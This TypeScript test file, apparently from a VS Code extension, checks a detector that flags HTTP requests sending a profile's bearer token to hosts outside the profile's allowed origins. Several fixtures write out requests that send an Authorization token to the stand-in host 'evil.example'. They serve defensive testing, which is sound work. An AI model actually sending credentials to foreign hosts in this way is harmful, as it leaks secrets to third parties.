import assert from 'node:assert/strict';
import { referenceTo } from '../../../../src/http/reference';
import type { Dialect } from '../../../../src/http/dialect';
import { sentRequests } from '../../../../src/http/sent';
import type { KnownProfile } from '../../../../src/profile/known';
import { outsideOrigins as outside } from '../../../../src/vscode/integrations/outside-origins';
import { team, usableProfile } from '../../storage/profiles-of';

const outsideOrigins = (text: string, dialect: Dialect, profiles: readonly KnownProfile[]) =>
  outside(sentRequests(text, dialect), profiles);
const fields = { grant: 'client_credentials', clientId: 'c', issuer: 'https://sso.example.com' };
const bound = usableProfile({ ...fields, id: 'bound', origins: ['https://*.example.com'] });
const free = usableProfile({ ...fields, id: 'free' });
const use = (id: string) => `Authorization: Bearer ${referenceTo(id)}`;

describe('a token’s destination outside its profile’s origins', () => {
  const cases: [what: string, text: string, marked: string[]][] = [
    ['is marked at the reference', `GET https://evil.example/\n${use('bound')}`, [referenceTo('bound')]],
    [
      'is marked at the name',
      `GET https://evil.example/\nAuthorization: token-deck personal:bound`,
      ['personal:bound'],
    ],
    [
      'is not marked at a name where the profile names it',
      `GET https://a.example.com/\nAuthorization: token-deck bound`,
      [],
    ],
    ['is not marked where the profile names it', `GET https://api.example.com/\n${use('bound')}`, []],
    ['is not marked where the profile names none', `GET https://evil.example/\n${use('free')}`, []],
    ['is not marked where there is no such profile', `GET https://evil.example/\n${use('other')}`, []],
    ['is not marked where only the sender knows it', `GET {{host}}/\n${use('bound')}`, []],
    [
      'is marked at the request line where a variable has the reference',
      `@auth = Bearer ${referenceTo('bound')}\n###\n  GET https://evil.example/ HTTP/1.1\nAuthorization: {{auth}}`,
      ['GET https://evil.example/ HTTP/1.1'],
    ],
    [
      'is marked in each request',
      `GET https://evil.example/\n${use('bound')}\n###\nGET https://api.example.com/\n${use('bound')}\n###\nGET https://a.example/\n${use('bound')}`,
      [referenceTo('bound'), referenceTo('bound')],
    ],
  ];
  for (const [what, text, marked] of cases) {
    it(what, () => {
      for (const dialect of ['rest-client', 'httpyac'] as const) {
        const found = outsideOrigins(text, dialect, [bound, free]);
        assert.deepEqual(
          found.map(({ place: { offset, length } }) => text.slice(offset, offset + length)),
          marked,
        );
      }
    });
  }

  it('is found without mapping the same list of profiles again', () => {
    let reads = 0;
    const counted = new Proxy(bound, {
      get: (target, name) => {
        if (name === 'id') reads++;
        return Reflect.get(target, name) as unknown;
      },
    });
    const list = [counted];
    const text = `GET https://evil.example/\n${use('bound')}`;
    assert.equal(outsideOrigins(text, 'httpyac', list).length, 1);
    const before = reads;
    assert.equal(outsideOrigins(text, 'httpyac', list).length, 1);
    assert.equal(reads, before);
    assert.equal(outsideOrigins(text, 'httpyac', [free]).length, 0, 'another list is another map');
  });

  it('is not marked where two profiles share the variable, or the profile cannot be used', () => {
    const text = `GET https://evil.example/\n${use('bound')}`;
    const same = usableProfile({ ...fields, id: 'bound', origins: ['https://api.example.com'] }, team('app'));
    assert.deepEqual(outsideOrigins(text, 'httpyac', [bound, same]), []);
    const broken = { usable: false, id: 'bound', home: bound.home, name: undefined, problems: [] } as const;
    assert.deepEqual(outsideOrigins(text, 'httpyac', [broken]), []);
  });
});
